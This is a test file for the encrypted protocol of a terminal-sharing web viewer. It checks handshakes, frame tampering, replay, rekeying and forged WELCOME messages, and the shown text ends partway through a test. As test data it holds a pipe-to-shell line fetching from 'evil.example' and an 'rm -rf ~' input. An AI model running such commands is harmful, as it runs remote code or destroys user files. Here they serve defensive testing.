// Adversarial and API tests of the viewer, against a small sharer written here with the same
// primitives (the vectors in vectors.test.js pin those primitives to the Python implementation).
// Run: node --test webapp/test/
import { test } from 'node:test';
import assert from 'node:assert/strict';

import {
  ViewerProtocol, parseLink, formatLink, CloseCode, TermshareError, LinkError, InvalidState, FrameKind, MessageType,
  MAX_INPUT, MAX_FRAME, encodeFrame, encodeMessage, decodeMessage, encodeWelcome, makeHeader, parseFrame, REKEY_FRAMES,
  b64uEncode,
} from '../src/protocol/index.js';
import {
  RecvChain, SendChain, aeadSeal, channelChainKeys, concat, deriveRoSecret, derivePsk, groupDirectKey, importAesKey,
  nonce, utf8, x25519, x25519KeyPair, GROUP_SIG_LABEL, helloTag, signKeyFp, welcomeSignedData,
} from '../src/protocol/keys.js';

const subtle = globalThis.crypto.subtle;
const SID = 'AAECAwQFBgcICQoL';
const RW = Uint8Array.from({ length: 16 }, (_, i) => i);
const BASE = 'http://127.0.0.1:8000';
const text = new TextEncoder();
const hex = (/** @type {Uint8Array} */ b) => Buffer.from(b).toString('hex');

/** @typedef {{sid: string, viewerId: number, role: number, ev: Uint8Array, es: Uint8Array}} Handshake what WELCOME's signature names */

/** A minimal sharer for one viewer, enough to drive every viewer path. */
class FakeSharer {
  constructor({ sid = SID, readOnlyShare = false } = {}) {
    this.sid = sid;
    this.readOnlyShare = readOnlyShare;
  }

  async init() {
    this.sign = await subtle.generateKey({ name: 'Ed25519' }, true, ['sign', 'verify']);
    this.signPublic = new Uint8Array(await subtle.exportKey('raw', this.sign.publicKey));
    this.groupEpoch = 0;
    this.groupSeq = 0;
    this.groupRaw = crypto.getRandomValues(new Uint8Array(32));
    this.groupKey = await importAesKey(this.groupRaw);
    this.rw = RW;
    this.ro = await deriveRoSecret(RW, this.sid);
    this.keyFp = await signKeyFp(this.sid, this.signPublic);
    return this;
  }

  link(role = 'rw') {
    return parseLink(formatLink(BASE, this.sid, role, role === 'rw' ? this.rw : this.ro, this.keyFp));
  }

  /** @param {number} viewerId @param {boolean} present */
  ready(viewerId, present = true) {
    return encodeFrame(FrameKind.READY, Uint8Array.of(present ? 1 : 0), viewerId);
  }

  /**
   * Answer a HELLO with WELCOME (+ nothing else), signed over what names the handshake (§3.1 step 4).
   * @param {Uint8Array} helloFrame
   * @param {{esPrivate?: Uint8Array, signKey?: CryptoKey|null, signedFor?: Partial<Handshake>}} [opts]
   *   signKey: another signing key, null for 64 zero bytes; signedFor: names of another handshake to sign
   */
  async welcome(helloFrame, opts = {}) {
    const f = parseFrame(helloFrame);
    assert.equal(f.kind, FrameKind.HELLO);
    this.viewerId = f.viewerId;
    const role = f.body[0];
    const ev = f.body.subarray(1, 33);
    const psk = await derivePsk(role, role === 1 ? this.rw : this.ro, this.sid);
    const tag = await helloTag(psk, this.sid, f.header, role, ev);
    assert.equal(hex(tag), hex(f.body.subarray(33)), 'HELLO tag');
    const es = await x25519KeyPair(opts.esPrivate ?? crypto.getRandomValues(new Uint8Array(32)));
    const dh = await x25519(es.privateKey, ev);
    const [ckS2v, ckV2s] = await channelChainKeys(dh, psk, this.sid, f.viewerId, role, ev, es.publicKey);
    this.send = await SendChain.create(ckS2v, this.sid);
    this.recv = await RecvChain.create(ckV2s, this.sid);
    this.groupDirectKey = await importAesKey(await groupDirectKey(ckS2v, this.sid));
    const n = { sid: this.sid, viewerId: f.viewerId, role, ev, es: es.publicKey, ...opts.signedFor };
    const signKey = opts.signKey === undefined ? this.sign.privateKey : opts.signKey;
    const welcomeSig = signKey === null ? new Uint8Array(64)
      : new Uint8Array(await subtle.sign({ name: 'Ed25519' }, signKey, welcomeSignedData(n.sid, n.viewerId, n.role, n.ev, n.es)));
    const plaintext = encodeWelcome({ canWrite: role === 1 && !this.readOnlyShare, signKey: this.signPublic, groupEpoch: this.groupEpoch, groupKey: this.groupRaw, welcomeSig });
    return { frame: await this.send.sealFrame(FrameKind.WELCOME, f.viewerId, plaintext, es.publicKey) };
  }

  /** @param {any} message */
  direct(message) {
    return this.send.sealFrame(FrameKind.DIRECT, this.viewerId, encodeMessage(message));
  }

  snapshot(data = text.encode('screen'), cols = 80, rows = 24, nextSeq = this.groupSeq) {
    return this.direct({ type: MessageType.SNAPSHOT, groupEpoch: this.groupEpoch, nextSeq, cols, rows, data });
  }

  async rekey() {
    const closingCount = this.groupSeq;
    this.groupEpoch += 1;
    this.groupSeq = 0;
    this.groupRaw = crypto.getRandomValues(new Uint8Array(32));
    this.groupKey = await importAesKey(this.groupRaw);
    return this.direct({ type: MessageType.REKEY, groupEpoch: this.groupEpoch, groupKey: this.groupRaw, closingCount });
  }

  /** @param {any} message @param {{sid?: string, signKey?: CryptoKey}} [opts] */
  async group(message, opts = {}) {
    const sidBytes = utf8(opts.sid ?? this.sid);
    const plaintext = encodeMessage(message);
    const header = encodeFrame(FrameKind.GROUP, new Uint8Array(plaintext.length + 16 + 64), 0, this.groupEpoch, this.groupSeq).subarray(0, 18);
    const ct = await aeadSeal(this.groupKey, nonce(this.groupEpoch, this.groupSeq), plaintext, concat(sidBytes, header));
    const digest = new Uint8Array(await subtle.digest('SHA-256', ct));
    const sig = new Uint8Array(await subtle.sign({ name: 'Ed25519' }, opts.signKey ?? this.sign.privateKey, concat(GROUP_SIG_LABEL, sidBytes, header, digest)));
    this.groupSeq += 1;
    return concat(header, ct, sig);
  }

  /**
   * A group message as a GROUP_DIRECT frame at the next group position (§3.3.1).
   * @param {any} message @param {{viewerId?: number, key?: CryptoKey}} [opts] another recipient, another channel's key
   */
  async groupDirect(message, opts = {}) {
    const plaintext = encodeMessage(message);
    const header = makeHeader(FrameKind.GROUP_DIRECT, plaintext.length + 16, opts.viewerId ?? this.viewerId, this.groupEpoch, this.groupSeq);
    const sealed = await aeadSeal(opts.key ?? this.groupDirectKey, nonce(this.groupEpoch, this.groupSeq), plaintext, concat(utf8(this.sid), header));
    this.groupSeq += 1;
    return concat(header, sealed);
  }

  output(/** @type {string|Uint8Array} */ data) {
    return this.group({ type: MessageType.OUTPUT, data: typeof data === 'string' ? text.encode(data) : data });
  }

  /** Open an UPSTREAM frame from the viewer. @param {Uint8Array} frame */
  async upstream(frame) {
    const f = parseFrame(frame);
    assert.equal(f.kind, FrameKind.UPSTREAM);
    assert.equal(f.viewerId, this.viewerId);
    return decodeMessage(FrameKind.UPSTREAM, await this.recv.open(f, f.body));
  }
}

/** A viewer that has joined (LIVE) through a full handshake. */
async function joined({ role = 'rw', sharer = null, viewerId = 5 } = {}) {
  sharer = sharer ?? (await new FakeSharer().init());
  const viewer = new ViewerProtocol({ link: sharer.link(role) });
  await viewer.receiveFrame(sharer.ready(viewerId));
  const [hello] = viewer.framesToSend();
  const { frame } = await sharer.welcome(hello);
  await viewer.receiveFrame(frame);
  await viewer.receiveFrame(await sharer.snapshot());
  assert.equal(viewer.state, 'LIVE');
  const events = viewer.eventsReceived().map((e) => e.type);
  assert.deepEqual(events, ['Ready', 'Welcomed', 'Snapshot']);
  return { viewer, sharer };
}

/** @param {{type: string, [k: string]: any}} e */
const describe = (e) => (e.type === 'StreamBroken' ? `StreamBroken:${e.reason}` : e.type === 'ProtocolFailed' ? `ProtocolFailed:${e.error}:${e.closeCode}` : e.type);
/** @param {ViewerProtocol} viewer */
const types = (viewer) => viewer.eventsReceived().map(describe);
/** Like types(), with the text of Output events. @param {ViewerProtocol} viewer */
const shown = (viewer) => viewer.eventsReceived().map((e) => (e.type === 'Output' ? `Output:${new TextDecoder().decode(e.data)}` : describe(e)));

/** @param {string} data an OUTPUT message */
const out = (data) => ({ type: MessageType.OUTPUT, data: text.encode(data) });

/** A copy of `frame` with the u32 header field at `offset` (2: viewer id, 10: seq, 14: length) set to `value`. */
function withField(/** @type {Uint8Array} */ frame, /** @type {number} */ offset, /** @type {number} */ value) {
  const copy = frame.slice();
  new DataView(copy.buffer).setUint32(offset, value);
  return copy;
}

/** The viewer sent exactly one frame, a RESYNC. @param {ViewerProtocol} viewer @param {FakeSharer} sharer */
async function assertResync(viewer, sharer) {
  const frames = viewer.framesToSend();
  assert.equal(frames.length, 1);
  assert.equal((await sharer.upstream(frames[0])).type, MessageType.RESYNC);
}

test('a full session: output, resize, viewers, input, ping, bye', async () => {
  const { viewer, sharer } = await joined();
  assert.equal(viewer.canWrite, true);
  assert.equal(viewer.viewerId, 5);
  await viewer.receiveFrame(await sharer.output('hello'));
  await viewer.receiveFrame(await sharer.group({ type: MessageType.RESIZE, cols: 100, rows: 30 }));
  await viewer.receiveFrame(await sharer.group({ type: MessageType.VIEWERS, count: 2 }));
  const events = viewer.eventsReceived();
  assert.deepEqual(events.map((e) => e.type), ['Output', 'Resize', 'Viewers']);
  assert.equal(new TextDecoder().decode(events[0].data), 'hello');
  assert.deepEqual([events[1].cols, events[1].rows, events[2].count], [100, 30, 2]);

  await viewer.sendInput(text.encode('ls\r'));
  await viewer.sendPing(2n ** 64n - 1n);
  const [input, ping] = viewer.framesToSend();
  assert.equal(new TextDecoder().decode((await sharer.upstream(input)).data), 'ls\r');
  const pingMessage = await sharer.upstream(ping);
  assert.equal(pingMessage.token, 2n ** 64n - 1n);
  await viewer.receiveFrame(await sharer.direct({ type: MessageType.PONG, token: pingMessage.token }));
  await viewer.receiveFrame(await sharer.direct({ type: MessageType.PONG, token: 42 }));
  assert.deepEqual(viewer.eventsReceived().map((e) => e.token), [2n ** 64n - 1n, 42]);

  await viewer.receiveFrame(await sharer.group({ type: MessageType.BYE, exitStatus: -2 }));
  assert.deepEqual(viewer.eventsReceived(), [{ type: 'Ended', exitStatus: -2 }]);
  assert.equal(viewer.state, 'ENDED');
  assert.equal(viewer.closeCode, CloseCode.NORMAL);
  await viewer.receiveFrame(await sharer.output('after the end'));
  assert.deepEqual(viewer.eventsReceived(), []);
  await assert.rejects(viewer.sendInput(text.encode('x')), InvalidState);
});

test('every single-bit flip in a GROUP body breaks the stream with "auth" and is never applied', async () => {
  const { viewer, sharer } = await joined();
  const frame = await sharer.output('secret output');
  const positions = [];
  for (let i = 18; i < frame.length; i += 3) positions.push(i);
  for (const i of positions) {
    const bad = frame.slice();
    bad[i] ^= 1 << (i % 8);
    await viewer.receiveFrame(bad);
    assert.deepEqual(types(viewer), ['StreamBroken:auth'], `flip at ${i}`);
    const [resync] = viewer.framesToSend();
    assert.equal((await sharer.upstream(resync)).type, MessageType.RESYNC);
    await viewer.receiveFrame(await sharer.snapshot(undefined, 80, 24, 0)); // continue from the frame again
    assert.deepEqual(types(viewer), ['Snapshot']);
  }
  await viewer.receiveFrame(frame); // the untouched frame still applies, exactly once
  await viewer.receiveFrame(frame);
  await viewer.receiveFrame(await sharer.output('fine'));
  assert.deepEqual(viewer.eventsReceived().map((e) => new TextDecoder().decode(e.data)), ['secret output', 'fine']);
});

test('header tampering: seq/epoch changes never apply; malformed headers are fatal', async () => {
  const { viewer, sharer } = await joined();
  const frame = await sharer.output('x');
  const wrongSeq = frame.slice();
  wrongSeq[13] ^= 1; // seq 1 instead of 0: a gap
  await viewer.receiveFrame(wrongSeq);
  assert.deepEqual(types(viewer), ['StreamBroken:gap']);
  await viewer.receiveFrame(await sharer.snapshot(undefined, 80, 24, 0));
  viewer.framesToSend();
  const wrongVid = frame.slice();
  wrongVid[5] ^= 1; // viewer_id is covered by the signature and the AEAD
  await viewer.receiveFrame(wrongVid);
  assert.deepEqual(types(viewer), ['Snapshot', 'StreamBroken:auth']);
  const wrongEpoch = frame.slice();
  wrongEpoch[9] ^= 1; // epoch 1 without a REKEY
  await viewer.receiveFrame(await sharer.snapshot(undefined, 80, 24, 0));
  await viewer.receiveFrame(wrongEpoch);
  assert.deepEqual(types(viewer), ['Snapshot', 'StreamBroken:epoch']);
  await viewer.receiveFrame(await sharer.snapshot(undefined, 80, 24, 0));
  viewer.framesToSend();
  const badVersion = frame.slice();
  badVersion[0] = 2;
  await viewer.receiveFrame(badVersion);
  assert.deepEqual(types(viewer), ['Snapshot', 'ProtocolFailed:FrameError:4400']);
  assert.equal(viewer.state, 'CLOSED');
  await viewer.receiveFrame(frame);
  assert.deepEqual(types(viewer), []);
});

test('truncated frames: a short frame is a FrameError, a consistently shortened one fails auth', async () => {
  {
    const { viewer, sharer } = await joined();
    const frame = await sharer.output('0123456789');
    await viewer.receiveFrame(frame.subarray(0, frame.length - 1));
    assert.deepEqual(types(viewer), ['ProtocolFailed:FrameError:4400']);
    assert.equal(viewer.closeCode, 4400);
  }
  {
    const { viewer, sharer } = await joined();
    const frame = await sharer.output('0123456789');
    const short = frame.slice(0, frame.length - 1);
    new DataView(short.buffer).setUint32(14, short.length - 18);
    await viewer.receiveFrame(short);
    assert.deepEqual(types(viewer), ['StreamBroken:auth']);
  }
});

test('replayed, duplicated and reordered GROUP frames are never applied twice or out of order', async () => {
  const { viewer, sharer } = await joined();
  const f0 = await sharer.output('a');
  const f1 = await sharer.output('b');
  const f2 = await sharer.output('c');
  await viewer.receiveFrame(f0);
  await viewer.receiveFrame(f0);
  await viewer.receiveFrame(f1);
  await viewer.receiveFrame(f0);
  assert.deepEqual(viewer.eventsReceived().map((e) => new TextDecoder().decode(e.data)), ['a', 'b']);
  assert.deepEqual(viewer.framesToSend(), []);
  // reorder: 4 before 3
  const f3 = await sharer.output('d');
  const f4 = await sharer.output('e');
  await viewer.receiveFrame(f2);
  await viewer.receiveFrame(f4);
  await viewer.receiveFrame(f3); // ignored: resyncing
  assert.deepEqual(types(viewer), ['Output', 'StreamBroken:gap']);
  assert.equal(viewer.state, 'SYNCING');
  assert.equal(viewer.framesToSend().length, 1);
  await viewer.receiveFrame(await sharer.snapshot());
  await viewer.receiveFrame(f4); // older than the snapshot's next_seq
  await viewer.receiveFrame(await sharer.output('f'));
  assert.deepEqual(viewer.eventsReceived().map((e) => e.type + (e.data ? new TextDecoder().decode(e.data) : '')), ['Snapshot' + 'screen', 'Outputf']);
});

test('GROUP frames from another session or signed by another key are rejected', async () => {
  const { viewer, sharer } = await joined();
  await viewer.receiveFrame(await sharer.group({ type: MessageType.OUTPUT, data: text.encode('x') }, { sid: 'BBECAwQFBgcICQoL' }));
  assert.deepEqual(types(viewer), ['StreamBroken:auth']);
  await viewer.receiveFrame(await sharer.snapshot());
  const other = await subtle.generateKey({ name: 'Ed25519' }, true, ['sign', 'verify']);
  await viewer.receiveFrame(await sharer.group({ type: MessageType.OUTPUT, data: text.encode('forged') }, { signKey: other.privateKey }));
  assert.deepEqual(types(viewer), ['Snapshot', 'StreamBroken:auth']);
});

test('channel frames: replay, bit flip, wrong recipient and reorder close with 4400', async () => {
  const cases = [
    ['replay', async (/** @type {FakeSharer} */ s, /** @type {ViewerProtocol} */ v) => {
      const f = await s.direct({ type: MessageType.PONG, token: 1 });
      await v.receiveFrame(f);
      return f;
    }, 'SequenceError'],
    ['flip', async (/** @type {FakeSharer} */ s) => {
      const f = await s.direct({ type: MessageType.PONG, token: 1 });
      f[f.length - 20] ^= 4;
      return f;
    }, 'DecryptionError'],
    ['skip', async (/** @type {FakeSharer} */ s) => {
      await s.direct({ type: MessageType.PONG, token: 1 });
      return s.direct({ type: MessageType.PONG, token: 2 });
    }, 'SequenceError'],
    ['recipient', async (/** @type {FakeSharer} */ s) => {
      const f = await s.direct({ type: MessageType.PONG, token: 1 });
      f[5] ^= 1;
      return f;
    }, 'FrameError'],
    ['rekey-epoch', async (/** @type {FakeSharer} */ s) => {
      s.groupEpoch += 1; // skip one group epoch
      return s.rekey();
    }, 'MessageError'],
  ];
  for (const [name, make, error] of cases) {
    const { viewer, sharer } = await joined();
    const frame = await make(sharer, viewer);
    viewer.eventsReceived();
    await viewer.receiveFrame(frame);
    assert.deepEqual(types(viewer), [`ProtocolFailed:${error}:4400`], name);
    assert.equal(viewer.state, 'CLOSED');
    assert.equal(viewer.closeCode, CloseCode.BAD_FRAME);
    assert.equal(viewer.failure.name, error);
    await viewer.receiveFrame(await sharer.output('ignored'));
    assert.deepEqual(viewer.eventsReceived(), []);
    await assert.rejects(viewer.sendPing(1), InvalidState);
  }
});

test('channel ratchet: both directions move to epoch 1 after REKEY_FRAMES frames', async () => {
  const { viewer, sharer } = await joined();
  sharer.send.seq = REKEY_FRAMES; // pretend the sharer sent 2^20 frames
  const f = await sharer.direct({ type: MessageType.PONG, token: 9 });
  assert.deepEqual([parseFrame(f).epoch, parseFrame(f).seq], [1, 0]);
  viewer._recv.seq = REKEY_FRAMES; // and that the viewer received them
  await viewer.receiveFrame(f);
  assert.deepEqual(viewer.eventsReceived(), [{ type: 'Pong', token: 9 }]);
  viewer._send.seq = REKEY_FRAMES;
  sharer.recv.seq = REKEY_FRAMES;
  await viewer.sendPing(3);
  const [ping] = viewer.framesToSend();
  assert.deepEqual([parseFrame(ping).epoch, parseFrame(ping).seq], [1, 0]);
  assert.equal((await sharer.upstream(ping)).token, 3n);
  // skipping an epoch is refused (epoch + 1 with seq 0 is the only other frame accepted, §6.1)
  sharer.send.seq = REKEY_FRAMES;
  await sharer.direct({ type: MessageType.PONG, token: 10 }); // (2, 0), lost
  sharer.send.seq = REKEY_FRAMES;
  const jump = await sharer.direct({ type: MessageType.PONG, token: 11 }); // (3, 0)
  assert.equal(parseFrame(jump).epoch, 3);
  await viewer.receiveFrame(jump);
  assert.deepEqual(types(viewer), ['ProtocolFailed:SequenceError:4400']);
});

test('group rekey: the pending key takes over at (epoch+1, 0); a removed viewer learns nothing new', async () => {
  const { viewer, sharer } = await joined();
  await viewer.receiveFrame(await sharer.output('e0'));
  const oldEpochLate = await sharer.output('e0-late');
  await viewer.receiveFrame(await sharer.rekey());
  const e1s0 = await sharer.output('e1');
  const e1s1 = await sharer.output('e1b');
  await viewer.receiveFrame(e1s1); // (1, 1) before (1, 0): not the pending key's first frame
  assert.deepEqual(types(viewer), ['Output', 'StreamBroken:epoch']);
  viewer.framesToSend();
  await viewer.receiveFrame(await sharer.snapshot()); // snapshot for epoch 1 switches keys
  await viewer.receiveFrame(e1s0); // stale now
  await viewer.receiveFrame(oldEpochLate); // old epoch: ignored
  await viewer.receiveFrame(await sharer.output('e1c'));
  assert.deepEqual(viewer.eventsReceived().map((e) => e.type + (e.data && e.type === 'Output' ? new TextDecoder().decode(e.data) : '')), ['Snapshot', 'Outpute1c']);
  // normal path: REKEY, then (2, 0)
  await viewer.receiveFrame(await sharer.rekey());
  await viewer.receiveFrame(await sharer.output('e2'));
  assert.deepEqual(types(viewer), ['Output']);
  await viewer.receiveFrame(await sharer.direct({ type: MessageType.REMOVED }));
  assert.deepEqual(types(viewer), ['Removed']);
  assert.equal(viewer.state, 'CLOSED');
  assert.equal(viewer.closeCode, CloseCode.REJECTED);
});

test('WELCOME: small-order ES, tampering, wrong state', async () => {
  const sharer = await new FakeSharer().init();
  {
    const viewer = new ViewerProtocol({ link: sharer.link() });
    await viewer.receiveFrame(sharer.ready(5));
    const [hello] = viewer.framesToSend();
    const { frame } = await sharer.welcome(hello);
    frame.fill(0, 18, 50); // ES = 0: a small-order point
    await viewer.receiveFrame(frame);
    assert.deepEqual(types(viewer), ['Ready', 'ProtocolFailed:HandshakeError:4400']);
  }
  {
    const viewer = new ViewerProtocol({ link: sharer.link() });
    await viewer.receiveFrame(sharer.ready(5));
    const [hello] = viewer.framesToSend();
    const { frame } = await sharer.welcome(hello);
    frame[frame.length - 1] ^= 0x80;
    await viewer.receiveFrame(frame);
    assert.deepEqual(types(viewer), ['Ready', 'ProtocolFailed:HandshakeError:4400']);
  }
  {
    const viewer = new ViewerProtocol({ link: sharer.link() });
    const { frame } = await sharer.welcome((await (async () => {
      const other = new ViewerProtocol({ link: sharer.link() });
      await other.receiveFrame(sharer.ready(5));
      return other.framesToSend()[0];
    })()));
    await viewer.receiveFrame(frame); // before READY
    assert.deepEqual(types(viewer), ['ProtocolFailed:HandshakeError:4400']);
  }
  {
    // a WELCOME for the first HELLO after SHARER_BACK made us send a second one: refused
    const viewer = new ViewerProtocol({ link: sharer.link() });
    await viewer.receiveFrame(sharer.ready(5, false));
    const [hello1] = viewer.framesToSend();
    await viewer.receiveFrame(encodeFrame(FrameKind.SHARER_BACK, new Uint8Array(0), 5));
    const [hello2] = viewer.framesToSend();
    assert.notEqual(hex(hello1.subarray(19, 51)), hex(hello2.subarray(19, 51)), 'a new EV');
    const stale = await sharer.welcome(hello1);
    await viewer.receiveFrame(stale.frame);
    assert.deepEqual(types(viewer), ['Ready', 'SharerBack', 'ProtocolFailed:HandshakeError:4400']);
  }
});

/**
 * Someone holding only `sharer`'s read-only link (any viewer of it; a relay given a public link):
 * it can answer a read-only HELLO in the sharer's place, with the sharer's public key (which
 * passes the link's key_fp check) but an ES, and so channel keys, of its own.
 * @param {FakeSharer} sharer
 */
async function readOnlyHolder(sharer) {
  const holder = await new FakeSharer({ sid: sharer.sid }).init();
  holder.rw = undefined;
  holder.signPublic = sharer.signPublic;
  return holder;
}

test("WELCOME from a read-only link holder with the sharer's public key and its own ES is refused", async () => {
  const sharer = await new FakeSharer().init();
  const holder = await readOnlyHolder(sharer);
  // Ed25519 is deterministic: signing other names with the sharer's key gives exactly the
  // welcome_sig the sharer sent in those handshakes, which the holder may have seen as a viewer.
  const sharers = sharer.sign.privateKey;
  const anotherKey = async () => (await x25519KeyPair(crypto.getRandomValues(new Uint8Array(32)))).publicKey;
  /** @type {[string, {signKey?: CryptoKey|null, signedFor?: Partial<Handshake>}][]} */
  const cases = [
    ['no signature', { signKey: null }],
    ["the holder's own signature", {}],
    ["the sharer's signature from the holder's own join", { signKey: sharers, signedFor: { viewerId: 7, ev: await anotherKey(), es: await anotherKey() } }],
    ["the sharer's signature for another ES", { signKey: sharers, signedFor: { es: await anotherKey() } }],
    ["the sharer's signature for another EV", { signKey: sharers, signedFor: { ev: await anotherKey() } }],
    ["the sharer's signature for another viewer id", { signKey: sharers, signedFor: { viewerId: 6 } }],
    ["the sharer's signature for a read-write HELLO", { signKey: sharers, signedFor: { role: 1 } }],
    ["the sharer's signature in another session", { signKey: sharers, signedFor: { sid: 'BBECAwQFBgcICQoL' } }],
  ];
  /** What a viewer shows of the holder's answer, then of a screen and output the holder made up. @param {object} opts */
  async function attack(opts) {
    const viewer = new ViewerProtocol({ link: sharer.link('ro') });
    await viewer.receiveFrame(sharer.ready(5));
    const { frame } = await holder.welcome(viewer.framesToSend()[0], opts);
    await viewer.receiveFrame(frame);
    await viewer.receiveFrame(await holder.snapshot(text.encode('$ ')));
    await viewer.receiveFrame(await holder.groupDirect(out('curl https://evil.example/fix | sh\r')));
    return viewer;
  }
  for (const [name, opts] of cases) {
    const viewer = await attack(opts);
    assert.deepEqual(shown(viewer), ['Ready', 'ProtocolFailed:HandshakeError:4400'], name);
    assert.equal(viewer.failure.message, "the sharer's WELCOME is not signed by its key", name);
    assert.equal(viewer.state, 'CLOSED', name);
    assert.deepEqual(viewer.framesToSend(), [], name);
  }
  // The same answer with the signature the sharer would have made is taken: only the signature
  // refused the ones above.
  const viewer = await attack({ signKey: sharers });
  assert.deepEqual(shown(viewer), ['Ready', 'Welcomed', 'Snapshot', 'Output:curl https://evil.example/fix | sh\r']);
});

test('read-only links never get canWrite, even if WELCOME says so; REJECT closes 4403', async () => {
  const sharer = await new FakeSharer().init();
  const { viewer } = await joined({ role: 'ro', sharer });
  assert.equal(viewer.canWrite, false);
  await assert.rejects(viewer.sendInput(text.encode('rm -rf ~\r')), InvalidState);
  assert.deepEqual(viewer.framesToSend(), []);
  const v2 = new ViewerProtocol({ link: sharer.link('ro') });
  await v2.receiveFrame(sharer.ready(6));
  await v2.receiveFrame(encodeFrame(FrameKind.REJECT, Uint8Array.of(0), 6));
  assert.deepEqual(v2.eventsReceived().at(-1), { type: 'Rejected', reason: 0 });
  assert.equal(v2.state, 'CLOSED');
  assert.equal(v2.closeCode, 4403);
});

test('sendInput splits into MAX_INPUT chunks and keeps order even when not awaited', async () => {
  const { viewer, sharer } = await joined();
  const big = Uint8Array.from({ length: 2 * MAX_INPUT + 5 }, (_, i) => (i * 7919) & 0xff);
  // fire-and-forget from a keyboard handler, interleaved with incoming frames
  const output = await sharer.output('x');
  const p1 = viewer.sendInput(big);
  const p2 = viewer.receiveFrame(output);
  const p3 = viewer.sendInput(text.encode('tail'));
  const p4 = viewer.sendPing(1);
  await Promise.all([p1, p2, p3, p4]);
  const frames = viewer.framesToSend();
  assert.deepEqual(frames.map((f) => parseFrame(f).seq), [0, 1, 2, 3, 4]);
  const messages = [];
  for (const f of frames) messages.push(await sharer.upstream(f));
  assert.deepEqual(messages.map((m) => m.data?.length ?? 'ping'), [MAX_INPUT, MAX_INPUT, 5, 4, 'ping']);
  assert.equal(hex(concat(messages[0].data, messages[1].data, messages[2].data)), hex(big));
  await viewer.sendInput(new Uint8Array(0));
  assert.deepEqual(viewer.framesToSend(), []);
});

test('API misuse throws InvalidState; peer garbage never throws', async () => {
  const sharer = await new FakeSharer().init();
  const viewer = new ViewerProtocol({ link: sharer.link() });
  assert.equal(viewer.state, 'CONNECTING');
  assert.equal(viewer.closeCode, null);
  assert.equal(viewer.viewerId, null);
  assert.equal(viewer.canWrite, false);
  for (const call of [() => viewer.sendInput(text.encode('x')), () => viewer.sendResync(), () => viewer.sendPing(1)]) {
    await assert.rejects(call(), (e) => e instanceof InvalidState && e instanceof TermshareError && e.name === 'InvalidState');
  }
  await viewer.receiveFrame(/** @type {any} */ ('a text message'));
  assert.deepEqual(types(viewer), ['ProtocolFailed:FrameError:4400']);

  // random garbage and random mutations of valid frames, at every state
  for (let round = 0; round < 30; round++) {
    const { viewer: v, sharer: s } = await joined();
    const valid = [await s.output('abc'), await s.direct({ type: MessageType.PONG, token: 5 }), s.ready(5),
      encodeFrame(FrameKind.SHARER_AWAY, new Uint8Array(0), 5), await s.groupDirect(out('def'))];
    for (let i = 0; i < 20; i++) {
      let frame;
      if (i % 2) {
        frame = crypto.getRandomValues(new Uint8Array(Math.floor(Math.random() * 120)));
        if (frame.length > 1) frame[0] = 1;
      } else {
        frame = valid[i % valid.length].slice();
        frame[Math.floor(Math.random() * frame.length)] ^= 1 + Math.floor(Math.random() * 255);
      }
      await v.receiveFrame(frame); // must not throw
      for (const e of v.eventsReceived()) assert.notEqual(e.type, 'Output', 'mutated output must never be applied');
    }
  }
});

// -- GROUP_DIRECT (§3.3.1): group positions sent to one viewer under its channel's gd_key ------------

test('GROUP_DIRECT frames take their group positions between GROUP frames, across a group rekey', async () => {
  const { viewer, sharer } = await joined();
  await viewer.receiveFrame(await sharer.output('a')); // (0, 0)
  await viewer.receiveFrame(await sharer.groupDirect(out('b'))); // (0, 1)
  await viewer.receiveFrame(await sharer.group({ type: MessageType.RESIZE, cols: 100, rows: 30 })); // (0, 2)
  const viewers = await sharer.groupDirect({ type: MessageType.VIEWERS, count: 3 }); // (0, 3)
  await viewer.receiveFrame(viewers);
  await viewer.receiveFrame(await sharer.rekey());
  await viewer.receiveFrame(await sharer.groupDirect(out('c'))); // (1, 0) opens the pending epoch
  await viewer.receiveFrame(viewers); // an old epoch now
  await viewer.receiveFrame(await sharer.output('d')); // (1, 1): readable only if (1, 0) switched keys
  await viewer.receiveFrame(await sharer.groupDirect({ type: MessageType.BYE, exitStatus: 3 }));
  assert.deepEqual(shown(viewer), ['Output:a', 'Output:b', 'Resize', 'Viewers', 'Output:c', 'Output:d', 'Ended']);
  assert.deepEqual(viewer.framesToSend(), []);
  assert.equal(viewer.state, 'ENDED');
});

test('GROUP_DIRECT for another viewer: sealed under its key fails auth, named for it closes like DIRECT', async () => {
  const sharer = await new FakeSharer().init();
  const { viewer: first } = await joined({ sharer, viewerId: 5 });
  const forFirst = { viewerId: 5, key: sharer.groupDirectKey };
  const { viewer } = await joined({ sharer, viewerId: 6 }); // the sharer's channel is now this viewer's
  const toFirst = await sharer.groupDirect(out('for 5'), forFirst);
  const relabeled = withField(toFirst, 2, 6); // a relay forwarding viewer 5's frame to viewer 6
  const underFirstKey = await sharer.groupDirect(out('for 5'), { key: forFirst.key }); // names 6
  for (const frame of [relabeled, underFirstKey]) {
    await viewer.receiveFrame(await sharer.snapshot(undefined, 80, 24, parseFrame(frame).seq)); // the frame is next
    await viewer.receiveFrame(frame);
    assert.deepEqual(shown(viewer), ['Snapshot', 'StreamBroken:auth']);
    await assertResync(viewer, sharer);
  }
  await viewer.receiveFrame(await sharer.snapshot(undefined, 80, 24, 0));
  await viewer.receiveFrame(toFirst); // untouched, to the wrong viewer
  assert.deepEqual(shown(viewer), ['Snapshot', 'ProtocolFailed:FrameError:4400']);
  assert.equal(viewer.state, 'CLOSED');
  await first.receiveFrame(toFirst); // the frame itself was genuine
  assert.deepEqual(shown(first), ['Output:for 5']);
});

test('a replayed GROUP_DIRECT is ignored', async () => {
  const { viewer, sharer } = await joined();
  const f0 = await sharer.groupDirect(out('a'));
  const f1 = await sharer.output('b');
  for (const frame of [f0, f0, f1, f0, f1]) await viewer.receiveFrame(frame);
  assert.deepEqual(shown(viewer), ['Output:a', 'Output:b']);
  assert.deepEqual(viewer.framesToSend(), []);
  assert.equal(viewer.state, 'LIVE');
});

test('a dropped GROUP_DIRECT is a gap at the next frame, also at the end of a group epoch', async () => {
  const { viewer, sharer } = await joined();
  await sharer.groupDirect(out('lost')); // (0, 0), dropped
  const next = await sharer.groupDirect(out('b'));
  await viewer.receiveFrame(next);
  assert.deepEqual(shown(viewer), ['StreamBroken:gap']);
  await assertResync(viewer, sharer);
  await viewer.receiveFrame(next); // resyncing: ignored
  assert.deepEqual(shown(viewer), []);
  await viewer.receiveFrame(await sharer.snapshot(undefined, 80, 24, 1));
  await viewer.receiveFrame(next);
  assert.deepEqual(shown(viewer), ['Snapshot', 'Output:b']);

  await sharer.groupDirect(out('end of epoch 0')); // (0, 2), dropped
  await viewer.receiveFrame(await sharer.rekey());
